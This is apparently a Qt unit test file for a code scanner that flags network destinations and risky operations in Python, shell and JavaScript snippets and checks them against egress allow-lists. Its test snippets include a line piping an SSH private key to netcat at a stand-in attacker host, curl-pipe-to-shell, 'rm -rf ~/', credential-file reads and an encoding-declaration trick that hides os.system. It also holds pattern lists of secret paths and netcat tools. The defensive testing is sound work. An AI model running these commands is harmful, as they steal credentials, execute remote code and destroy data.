// SPDX-License-Identifier: Apache-2.0
#include "policy/CodeReach.h"
#include "policy/EgressRules.h"
#include "policy/ReachPatterns.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace k8::policy;

class TestCodeReach : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void corpus_data();
    void corpus();
    void verdictsForFindings();
    void longLinesStayBounded();
    void unreadablePortSaysSo();
    void everyPatternHoldsItsWords();
};

// Each snippet lists what it must yield, in order: "L<line> <destination>" for destinations and
// "L<line> !<source>" for risky operations. Nothing else may be found.
void TestCodeReach::corpus_data()
{
    QTest::addColumn<QString>("language");
    QTest::addColumn<QString>("code");
    QTest::addColumn<QStringList>("expected");

    auto row = [](const char* name, const QString& language, const QString& code,
                  const QStringList& expected) { QTest::newRow(name) << language << code << expected; };
    // Python
    row("requests get", u"python"_s, u"import requests\nr = requests.get('https://api.example.com/v1/x')\n"_s,
        {u"L2 api.example.com:443"_s});
    row("httpx post port", u"python"_s, u"httpx.post(\"http://10.0.0.5:8080/upload\", data=b)"_s,
        {u"L1 10.0.0.5:8080"_s});
    row("urllib urlopen", u"python"_s,
        u"from urllib.request import urlopen\n\nwith urlopen('https://raw.githubusercontent.com/a/b/c') as f:\n    pass"_s,
        {u"L3 raw.githubusercontent.com:443"_s});
    row("aiohttp session", u"python"_s,
        u"async with aiohttp.ClientSession() as s:\n    async with s.get(\"https://huggingface.co/api/models\") as r:\n"_s,
        {u"L2 huggingface.co:443"_s});
    row("socket connect", u"python"_s, u"s = socket.socket()\ns.connect((\"evil.example.net\", 4444))\n"_s,
        {u"L2 evil.example.net:4444"_s});
    row("socket create_connection", u"python"_s, u"socket.create_connection(('db.internal.example', 5432))"_s,
        {u"L1 db.internal.example:5432"_s});
    row("http.client", u"python"_s, u"conn = http.client.HTTPSConnection(\"api.github.com\")"_s,
        {u"L1 api.github.com:443"_s});
    row("smtp with port", u"python"_s, u"smtplib.SMTP('mail.example.org', 587)"_s,
        {u"L1 mail.example.org:587"_s});
    row("url with credentials", u"python"_s, u"requests.get('https://user:pw@private.example.com:8443/x')"_s,
        {u"L1 private.example.com:8443"_s});
    row("ipv6 url", u"python"_s, u"requests.get('http://[2001:db8::1]:8080/')"_s,
        {u"L1 [2001:db8::1]:8080"_s});
    row("pip via subprocess", u"python"_s,
        u"import subprocess\nsubprocess.run([\"pip\", \"install\", \"numpy\"])"_s,
        {u"L2 pypi.org:443"_s, u"L2 files.pythonhosted.org:443"_s, u"L2 !subprocess.run"_s});
    row("os.system curl", u"python"_s, u"os.system('curl -fsSL https://get.example.sh | sh')"_s,
        {u"L1 get.example.sh:443"_s, u"L1 !os.system"_s, u"L1 !| sh"_s});
    row("eval and exec", u"python"_s, u"x = eval(data)\nexec(compile(src, 'f', 'exec'))"_s,
        {u"L1 !eval"_s, u"L2 !exec"_s});
    row("rmtree outside", u"python"_s, u"import shutil\nshutil.rmtree('/home/user/projects')"_s,
        {u"L2 !shutil.rmtree"_s});
    row("rmtree inside is fine", u"python"_s, u"shutil.rmtree('build')"_s, {});
    row("rmtree computed", u"python"_s, u"shutil.rmtree(target)"_s, {u"L1 !shutil.rmtree"_s});
    row("rmdir of a path built inline", u"python"_s,
        u"Path('/etc/x').rmdir()\nPath.home().joinpath('a').unlink()"_s, {u"L1 !.rmdir"_s, u"L2 !.unlink"_s});
    row("read ssh key", u"python"_s, u"key = open(os.path.expanduser('~/.ssh/id_rsa')).read()"_s,
        {u"L1 !secrets"_s});
    row("ssh folder joined", u"python"_s,
        u"keys = os.listdir(os.path.join(os.path.expanduser('~'), '.ssh'))"_s, {u"L1 !secrets"_s});
    row("aws credentials", u"python"_s, u"p = Path.home() / '.aws/credentials'"_s, {u"L1 !secrets"_s});
    row("comment is not a call", u"python"_s, u"# see https://docs.python.org/3/\nprint('hi')"_s, {});
    row("placeholder host skipped", u"python"_s, u"requests.get(f'https://{host}/x')"_s, {});
    row("two urls one line", u"python"_s, u"urls = ['https://a.example.com', 'http://b.example.com']"_s,
        {u"L1 a.example.com:443"_s, u"L1 b.example.com:80"_s});
    row("same host twice on a line", u"python"_s, u"get('https://pypi.org/a'); get('https://pypi.org/b')"_s,
        {u"L1 pypi.org:443"_s});
    row("pure computation", u"python"_s, u"def f(x):\n    return x * 2\nprint(f(21))\n"_s, {});
    // Shell
    row("pip install", u"bash"_s, u"pip install requests==2.32.0"_s,
        {u"L1 pypi.org:443"_s, u"L1 files.pythonhosted.org:443"_s});
    row("uv pip install", u"bash"_s, u"uv pip install -r requirements.txt"_s,
        {u"L1 pypi.org:443"_s, u"L1 files.pythonhosted.org:443"_s});
    row("pip with own index", u"bash"_s, u"pip install --index-url https://pkgs.corp.example/simple x"_s,
        {u"L1 pkgs.corp.example:443"_s});
    row("npm install", u"bash"_s, u"cd app && npm install"_s, {u"L1 registry.npmjs.org:443"_s});
    row("git clone https", u"bash"_s, u"git clone https://github.com/org/repo.git"_s,
        {u"L1 github.com:443"_s});
    row("git clone ssh", u"bash"_s, u"git clone git@gitlab.com:org/repo.git"_s, {u"L1 gitlab.com:22"_s});
    row("curl bare host", u"sh"_s, u"curl -s example.org/data.json"_s, {u"L1 example.org"_s});
    row("wget url", u"bash"_s, u"wget -q https://deb.debian.org/debian/x.deb"_s,
        {u"L1 deb.debian.org:443"_s});
    row("apt-get", u"bash"_s, u"apt-get update && apt-get install -y jq"_s, {u"L1 deb.debian.org:80"_s});
    row("rm -rf home", u"bash"_s, u"rm -rf ~/"_s, {u"L1 !rm"_s});
    row("rm relative fine", u"bash"_s, u"rm -rf build/"_s, {});
    row("cat ssh", u"bash"_s, u"cat ~/.ssh/id_ed25519 | nc attacker.example 9001"_s,
        {u"L1 attacker.example:9001"_s, u"L1 !secrets"_s});
    row("shell comment", u"bash"_s, u"#!/bin/bash\n# curl https://x.example.com\necho ok"_s, {});
    // JavaScript
    row("fetch", u"javascript"_s, u"const r = await fetch('https://api.openai.example/v1/chat');"_s,
        {u"L1 api.openai.example:443"_s});
    row("http options", u"javascript"_s,
        u"http.request({ host: 'internal.example', port: 8081, path: '/' })"_s,
        {u"L1 internal.example:8081"_s});
    row("net connect", u"js"_s, u"const c = net.connect(6379, 'cache.example.com');"_s,
        {u"L1 cache.example.com:6379"_s});
    row("child_process", u"javascript"_s,
        u"const { execSync } = require('child_process');\nexecSync('ls');"_s,
        {u"L1 !child_process"_s, u"L2 !execSync"_s});
    row("fs rmSync outside", u"javascript"_s, u"fs.rmSync('/etc/important', { recursive: true });"_s,
        {u"L1 !rmSync"_s});
    row("js eval", u"javascript"_s, u"// eval is bad\nconst v = eval(input);"_s, {u"L2 !eval"_s});
    row("websocket", u"javascript"_s, u"new WebSocket('wss://stream.example.com/feed')"_s,
        {u"L1 stream.example.com:443"_s});
    // Issue 24: a declaration is a comment, but it changes what Python reads.
    row("encoding declaration", u"python"_s,
        u"# coding: unicode_escape\n# tidy \u2014 \\nimport os; os.system('id')\nprint(1)\n"_s,
        {u"L1 !coding"_s});
    row("utf-8 declaration", u"python"_s, u"# -*- coding: utf-8 -*-\nprint(1)\n"_s, {});
    row("CRLF line ends", u"python"_s, u"import requests\r\nrequests.get('https://pypi.org')\r\n"_s,
        {u"L2 pypi.org:443"_s});
    // Issue 29: a port past 65535, or one that is not digits, is no destination: the line is
    // named as one to read, with no host:port and so no verdict (the fuzzer's findings).
    row("wget v6 port past 65535", u"bash"_s, u"wget http://[::1]:80080/x"_s, {u"L1 !wget"_s});
    row("wget name port past 65535", u"bash"_s, u"wget http://example.com:80080/x"_s, {u"L1 !wget"_s});
    row("curl v6 port 99999", u"bash"_s, u"curl http://[::1]:99999/x"_s, {u"L1 !curl"_s});
    row("requests v6 port 70000", u"python"_s, u"requests.get(\"http://[2001:db8::1]:70000/\")"_s,
        {u"L1 !requests"_s});
    row("curl v4 port 65536", u"bash"_s, u"curl http://10.0.0.1:65536/"_s, {u"L1 !curl"_s});
    row("port that overflows", u"bash"_s, u"curl http://example.com:99999999999/"_s, {u"L1 !curl"_s});
    row("port not digits", u"python"_s, u"requests.get('http://example.com:8o/')"_s, {u"L1 !requests"_s});
    row("bare host port past 65535", u"bash"_s, u"curl example.com:123456/x"_s, {u"L1 !curl"_s});
    row("socket port past 65535", u"python"_s, u"s.connect(('db.example.com', 70000))"_s, {u"L1 !socket"_s});
    row("port 65535 is a port", u"bash"_s, u"curl http://10.0.0.1:65535/"_s, {u"L1 10.0.0.1:65535"_s});
    row("empty port is the scheme's", u"bash"_s, u"curl http://example.com:/x"_s, {u"L1 example.com:80"_s});
}

void TestCodeReach::corpus()
{
    QFETCH(QString, language);
    QFETCH(QString, code);
    QFETCH(QStringList, expected);
    QStringList found;
    for (const ReachFinding& finding : scanCode(code, language)) {
        if (finding.kind == ReachFinding::Kind::Destination)
            found << u"L%1 %2"_s.arg(finding.line).arg(finding.destination());
        else
            found << u"L%1 !%2"_s.arg(finding.line).arg(finding.source);
    }
    QCOMPARE(found, expected);
}

void TestCodeReach::verdictsForFindings()
{
    // The review panel's verdicts come from the same match() as the editor's "test a host".
    EgressRules rules;
    rules.mode = EgressRules::Mode::Allow;
    rules.items = {{u"pypi.org"_s, {}}, {u"*.pythonhosted.org"_s, {}}};
    const QList<ReachFinding> findings = scanCode(
        u"subprocess.run(['pip', 'install', 'x'])\nrequests.get('https://evil.example.net')"_s, u"python"_s);
    QStringList verdicts;
    for (const ReachFinding& finding : findings) {
        if (finding.kind == ReachFinding::Kind::Destination)
            verdicts << finding.host + u" "_s + match(rules, finding.destination()).reason;
    }
    QCOMPARE(verdicts, (QStringList{u"pypi.org allowed by pypi.org"_s,
                                    u"files.pythonhosted.org allowed by *.pythonhosted.org"_s,
                                    u"evil.example.net blocked: not in the allow-list"_s}));
}

void TestCodeReach::longLinesStayBounded()
{
    // A minified line of 2 MB must not make the scan crawl (regexes are applied to a prefix).
    const QString line = u"var a='"_s + QString(2'000'000, u'x') + u"';"_s;
    const QList<ReachFinding> findings = scanCode(u"fetch('https://cdn.example.com/x')\n"_s + line, u"js"_s);
    QCOMPARE(findings.size(), 1);
    QCOMPARE(findings.first().host, u"cdn.example.com"_s);
}

void TestCodeReach::unreadablePortSaysSo()
{
    // What the review shows for it: the address as written and why it has no verdict.
    const QList<ReachFinding> findings = scanCode(u"curl http://10.0.0.1:65536/"_s, u"bash"_s);
    QCOMPARE(findings.size(), 1);
    QCOMPARE(findings.first().kind, ReachFinding::Kind::Risk);
    QVERIFY(findings.first().detail.contains(u"http://10.0.0.1:65536"_s));
    QVERIFY(findings.first().detail.contains(u"0 to 65535"_s));
    // A port of thousands of digits is quoted cut, not whole.
    const QList<ReachFinding> long_ =
        scanCode(u"curl http://10.0.0.1:"_s + QString(3000, u'9') + u"/"_s, u"bash"_s);
    QCOMPARE(long_.size(), 1);
    QCOMPARE(long_.first().kind, ReachFinding::Kind::Risk);
    QVERIFY2(long_.first().detail.size() < 120, qPrintable(long_.first().detail));
    QCOMPARE(findings.first().destination(), QString());
}

void TestCodeReach::everyPatternHoldsItsWords()
{
    // The scan gives a pattern only lines that hold one of its words. Each alternative of each
    // pattern, written as code does, must still be matched (a word missing from the list would
    // hide it), and no pattern may match an example without holding one of its words.
    const ReachPatterns& p = ReachPatterns::instance();
    const QHash<const ReachPattern*, QStringList> examples = {
        {&p.url, {u"x = 'HTTPS://a.example.com'"_s, u"git+ssh://h.example.com/r"_s, u"WSS://h.io"_s}},
        {&p.scpLike, {u"git clone git@github.com:o/r.git"_s}},
        {&p.pipInstall,
         {u"pip install x"_s, u"pip3 install x"_s, u"uv pip install x"_s, u"python3 -m pip install x"_s,
          u"['pip', 'install', 'x']"_s}},
        {&p.uvAdd, {u"uv add x"_s, u"uv  sync"_s}},
        {&p.npmInstall,
         {u"npm install x"_s, u"npm i x"_s, u"npm ci"_s, u"yarn add x"_s, u"pnpm add x"_s, u"pnpm install"_s,
          u"npx create-app"_s}},
        {&p.aptInstall, {u"apt install x"_s, u"apt-get update"_s}},
        {&p.bareHost, {u"curl example.com/x"_s, u"wget -q -O f example.com:8080/x"_s}},
        {&p.sshHost, {u"ssh user@h.example.com"_s, u"scp -r h.example.com"_s, u"sftp h.example.com"_s}},
        {&p.netcat, {u"nc h.example.com 80"_s, u"ncat -v h 1"_s, u"netcat h 2"_s, u"telnet h 23"_s}},
        {&p.secret,
         {u"~/.ssh"_s, u".ssh/x"_s, u"id_rsa"_s, u"id_ed25519"_s, u"id_ecdsa"_s, u"~/.aws"_s,
          u".aws/credentials"_s, u"~/.netrc"_s, u".netrc"_s, u"~/.gnupg"_s, u"/etc/shadow"_s,
          u".kube/config"_s, u".docker/config.json"_s, u".git-credentials"_s, u"$HOME/.ssh"_s,
          u"join(h, '.aws')"_s, u"'.gnupg'"_s}},
        {&p.pySocket,
         {u"s.connect(('h', 1))"_s, u"s.connect_ex(('h', 1))"_s, u"s.sendto(b, ('h', 1))"_s,
          u"socket.create_connection((\"h\", 1))"_s}},
        {&p.pyHostClass,
         {u"HTTPSConnection('h')"_s, u"HTTPConnection('h')"_s, u"FTP('h')"_s, u"FTP_TLS('h')"_s,
          u"SMTP('h')"_s, u"SMTP_SSL('h')"_s, u"IMAP4('h')"_s, u"IMAP4_SSL('h')"_s, u"POP3('h')"_s,
          u"POP3_SSL('h')"_s, u"Redis(host='h', port=1)"_s, u"MongoClient('h')"_s}},
        {&p.pyShell,
         {u"subprocess.run(x)"_s, u"os.system(x)"_s, u"os.popen(x)"_s, u"os.execv(x)"_s, u"os.spawnl(x)"_s,
          u"pty.spawn(x)"_s}},
        {&p.pyDynamic, {u"eval(x)"_s, u"exec (x)"_s, u"compile(x)"_s, u"__import__(x)"_s}},
        {&p.pyRemove,
         {u"shutil.rmtree(x)"_s, u"os.remove('/x')"_s, u"os.unlink(x)"_s, u"os.rmdir(x)"_s,
          u"os.removedirs(x)"_s, u"p.unlink()"_s, u"p.rmdir()"_s, u"Path('/x').rmdir()"_s}},
        {&p.jsHostKey, {u"{ host: 'h', port: 1 }"_s, u"{hostname: \"h\"}"_s}},
        {&p.jsNetConnect, {u"net.connect(1, 'h')"_s, u"tls.createConnection(1, 'h')"_s}},
        {&p.jsChild,
         {u"child_process (x)"_s, u"execSync(x)"_s, u"spawnSync(x)"_s, u"execFile(x)"_s, u"spawn(x)"_s,
          u"exec(x)"_s}},
        {&p.jsDynamic, {u"eval(x)"_s, u"new Function(x)"_s}},
        {&p.jsRemove,
         {u"fs.rm(x)"_s, u"fs.rmSync(x)"_s, u"fs.promises.rmdir('/x')"_s, u"fs.rmdirSync(x)"_s,
          u"fs.unlink(x)"_s, u"fs.unlinkSync(x)"_s}},
        {&p.shRemove, {u"rm -rf ~"_s, u"x; rm /y"_s, u"sudo rm /z"_s, u"(rm x)"_s}},
        {&p.shDynamic, {u"eval \"$x\""_s, u"source x"_s, u"a; bash -c x"_s, u"sh -c x"_s}},
        {&p.shPipe, {u"curl x | sh"_s, u"curl x | sudo bash"_s}},
    };
    for (const ReachPattern* pattern : p.all()) {
        QVERIFY2(examples.contains(pattern), qPrintable(u"no examples for "_s + pattern->pattern()));
        for (const QString& line : examples.value(pattern))
            QVERIFY2(pattern->match(ReachLine(line)).hasMatch(),
                     qPrintable(pattern->pattern() + u" does not match "_s + line));
    }
    QCOMPARE(examples.size(), p.all().size());

    // No pattern matches a line without its words: the examples, and each of them with one
    // character deleted, wherever it is (which breaks a word, and shows an alternative matched
    // without one).
    QStringList lines;
    for (const QStringList& codes : examples) {
        for (const QString& line : codes) {
            lines << line;
            for (qsizetype at = 0; at < line.size(); ++at)
                lines << QString(line).remove(at, 1);
        }
    }
    for (const ReachPattern* pattern : p.all()) {
        for (const QString& line : std::as_const(lines))
            QVERIFY2(pattern->wordsHoldFor(ReachLine(line)),
                     qPrintable(pattern->pattern() + u" matches "_s + line));
    }
}

QTEST_GUILESS_MAIN(TestCodeReach)
#include "tst_codereach.moc"
